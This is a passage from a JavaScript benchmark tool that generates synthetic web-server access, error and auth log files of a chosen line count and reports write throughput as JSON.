        v24 = true; // the server was upgraded from 2.2 to 2.4
      }
      const r = errorLines(rand, g, clock, v24);
      if (typeof r === 'string') {
        push(r);
      } else {
        for (const l of r) {
          if (n < lines) {
            push(l);
          }
        }
      }
    } else {
      const r = authLines(rand, g, clock);
      for (const l of r) {
        if (n < lines) {
          push(l);
        }
      }
      clock.extra(r.length - 1);
    }
  }
  if (pos > 0) {
    bytes += writeSync(fd, buf, 0, pos);
  }
  closeSync(fd);
  const lastMs = clock.now;
  // rename last: a half-written file is never taken for a finished one
  renameSync(tmp, out);
  utimesSync(out, new Date(lastMs), new Date(lastMs));
  return { kind, lines: n, bytes, firstMs, lastMs, ms: Math.round(performance.now() - t0) };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const args = process.argv.slice(2);
  const get = (name, dflt) => {
    const i = args.indexOf(`--${name}`);
    return i >= 0 ? args[i + 1] : dflt;
  };
  const kind = get('kind', 'access');
  const lines = Number(get('lines', '100000'));
  const out = get('out', `.bench/data/adhoc/${kind}/${kind}.log`);
  const r = generate(kind, lines, out);
  console.log(JSON.stringify({ ...r, out, linesPerSecond: Math.round((r.lines * 1000) / r.ms) }));
}
